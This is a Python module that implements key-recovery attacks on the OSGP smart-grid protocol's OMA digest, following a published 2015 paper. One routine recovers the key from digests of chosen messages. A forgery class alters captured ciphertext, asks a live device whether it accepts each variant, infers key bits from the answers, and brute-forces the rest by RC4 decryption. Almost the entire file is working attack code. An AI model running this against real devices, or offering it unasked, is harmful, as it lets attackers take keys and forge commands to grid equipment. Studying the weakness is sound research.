"""The key of the OMA digest, found: eprint 2015/428 (Jovanovic and Neves, "Dumb Crypto in Smart
Grids").

Why it can be done. One octet of the message goes through one step: for position p of a block of
144, v = 7 - p mod 8 and key bit b = bit p mod 96,

    a[v] = a[v + 1] + m[p] + f(b, a[v])      f(1, x) = rotl(~(x + v))    f(0, x) = -rotr(~(x + v))

A difference of 80 in a[v] stays 80 through every sum. It goes on to a[v - 1] one step later, where
an 80 in the message takes it away again, and eight steps later through f: it comes out as +-1 when
the key bit is 1 and as +-40 when it is 0. So one bit of the key decides what can be seen.

`chosen` sees it in digests of messages that it chooses: a difference in the last round but one
shows all eight bits of the last round in the digest's lowest bits, and with those the digest is
taken back one round.

`forge` does not see digests. It changes a captured message, ciphertext as it is, and asks whether
the device still takes its digest: that key stream belongs to the digest, not to the text, so a
difference in the ciphertext is one in the text. With +-40 taken away the digest stays: by 40 or
by C0, whichever fits the sign, which nobody knows. Both fail when the key bit is 1.
"""

from collections.abc import Callable, Iterable
from itertools import product

from osgp.kernels import digest, digest_pad, rc4, rc4_key
from osgp.security.keys import base_key

BLOCK = 144
ROUND = 8
ROUNDS = BLOCK // ROUND
KEY_OCTETS = 12
KEY_BITS = 8 * KEY_OCTETS
TOP = 0x80  # the difference that no sum changes
HEAD = 3  # covered and not ours to change: subnet, node, APDU code
FIRST = HEAD + ROUND  # the first key bit that a difference in the text reaches
CURES_OF_0 = (0x40, 0xC0)  # one of them adds 40, the other takes it away, whatever the octet is
CURES_OF_1 = (0x01, 0x03, 0x07, 0x0F, 0x1F, 0x3F, 0x7F, 0xFF)  # two of them add or take away 1
COUNT_AT = {0x40: 3, 0x4F: 6}  # of a full and a partial write
TAG, NUMBER = 8, 4
TRIED_OUT = 22  # key bits, at most


def _rotl(x: int) -> int:
    return (x << 1 | x >> 7) & 0xFF


def _rotr(x: int) -> int:
    return (x >> 1 | x << 7) & 0xFF


def undo_round(state: bytes, key_octet: int, message: bytes) -> bytes:
    """The state before a round, from that after it and the eight octets that it took in."""
    a = bytearray(state)
    for v in range(8):
        p = 7 - v
        y = (a[v] - a[(v + 1) & 7] - message[p]) & 0xFF
        x = _rotr(y) if key_octet >> p & 1 else _rotl(-y & 0xFF)
        a[v] = ((x ^ 0xFF) - v) & 0xFF
    return bytes(a)


# ---- digests of chosen messages


def chosen(oracle: Callable[[bytes], bytes]) -> bytes:
    """The key, from the digests of 13 whole blocks. `oracle(144 octets) -> 8 octets`."""
    plain = bytes(BLOCK)
    key = bytearray(KEY_OCTETS)
    reference = oracle(plain)
    for number in range(ROUNDS - 1, ROUNDS - 1 - KEY_OCTETS, -1):
        changed = bytearray(plain)
        changed[ROUND * (number - 1)] = TOP  # all eight of the state differ by 80 before `number`
        states = []
        for state, message in ((reference, plain), (oracle(bytes(changed)), bytes(changed))):
            for later in range(ROUNDS - 1, number, -1):
                octets = message[ROUND * later : ROUND * (later + 1)]
                state = undo_round(state, key[later % KEY_OCTETS], octets)
            states.append(state)
        key[number % KEY_OCTETS] = _lowest_bits(*states)
    return bytes(key)


def _lowest_bits(one: bytes, other: bytes) -> int:
    """The key octet of a round before which every octet of the state differed by 80.

    Each octet's lowest bit differs when its own key bit is 1, and when its neighbour's differs.
    """
    octet = above = 0
    for p in range(8):
        differs = (one[7 - p] ^ other[7 - p]) & 1
        octet |= (differs ^ above) << p
        above = differs
    return octet


# ---- nothing but: does the device take it?


class Forgery:
    """Captured requests, and what the device says to variants of the longest."""

    def __init__(self, address: bytes, captured: list[bytes], takes: Callable[[bytes], bool]):
        """`address`: the device's subnet and node. `captured`: requests to it; the longest has to
        be a write. `takes(apdu)`: whether the device takes its digest.
        """
        self._address = address
        self._captured = captured
        self._apdu = max(captured, key=len)
        self._takes = takes
        self._known: dict[int, int] = {}  # key bits

    def recover(self) -> bytes | None:
        """The key; None when no key explains what was captured."""
        carrier = self._carrier()
        end = min(HEAD - 1 + len(self._apdu) - TAG, FIRST + KEY_BITS)
        for position in range(FIRST + 1, end):
            injected = {position - ROUND: TOP, position - ROUND + 1: TOP}
            kept = any(self._keeps(carrier, injected, {position: cure}) for cure in CURES_OF_0)
            self._known[position % KEY_BITS] = int(not kept)
        return self._search()

    def _carrier(self) -> dict[int, int]:
        """A change that makes the command one that nobody knows, so that no length is checked.

        It goes with all others. Found for either value of the key bit: for 1 the difference is
        +-1, and which bits of the octet that changes depends on what it is.
        """
        injected = {HEAD: TOP, HEAD + 1: TOP}
        for value, cures in ((0, CURES_OF_0), (1, CURES_OF_1)):
            for cure in cures:
                if self._keeps(injected, {FIRST: cure}):
                    self._known[FIRST] = value
                    return injected | {FIRST: cure}
        return {}

    def _keeps(self, *changes: dict[int, int]) -> bool:
        """Does the device take the message with these octets changed (by exclusive or)?"""
        apdu = bytearray(self._apdu)
        for change in changes:
            for position, difference in change.items():
                apdu[position - HEAD + 1] ^= difference
        return self._takes(bytes(apdu))

    # ---- what no difference has shown, tried out

    def _search(self) -> bytes | None:
        """The key with the bits that are left, by decrypting: the encryption key is made of the
        first half alone, so that goes before the rest."""
        left = [bit for bit in range(KEY_BITS) if bit not in self._known]
        if len(left) > TRIED_OUT:
            return None
        first = [bit for bit in left if bit < KEY_BITS // 2]
        second = [bit for bit in left if bit >= KEY_BITS // 2]
        for values in product((0, 1), repeat=len(first)):
            if not _is_write(_decrypt(self._key(zip(first, values)), self._apdu)):
                continue
            for more in product((0, 1), repeat=len(second)):
                key = self._key([*zip(first, values), *zip(second, more)])
                # One message may not do: a step in which both key bits come to the same is none.
                if all(self._explains(key, apdu) for apdu in self._captured):
                    return key
        return None

    def _key(self, tried: Iterable[tuple[int, int]]) -> bytes:
        key = bytearray(KEY_OCTETS)
        for bit, value in [*self._known.items(), *tried]:
            key[bit >> 3] |= value << (bit & 7)
        return bytes(key)

    def _explains(self, key: bytes, apdu: bytes) -> bool:
        covered = self._address + apdu[:1] + _decrypt(key, apdu)
        state = bytearray(8)
        digest_pad(state, key, digest(state, key, 0, covered, 0, len(covered)))
        return state == apdu[-TAG:]


def _decrypt(key: bytes, apdu: bytes) -> bytes:
    base = base_key(key)
    state = bytearray(258)
    rc4_key(state, bytes(a ^ b for a, b in zip(base, apdu[-TAG:])) + base[8:])
    text = bytearray(apdu[1:-TAG])
    rc4(state, text, 0, len(text))
    return bytes(text)


def _is_write(text: bytes) -> bool:
    """Is it a write of as many octets as it says?"""
    if text[0] not in COUNT_AT:
        return False
    data = COUNT_AT[text[0]] + 2
    return len(text) - NUMBER - data == int.from_bytes(text[data - 2 : data], "big")
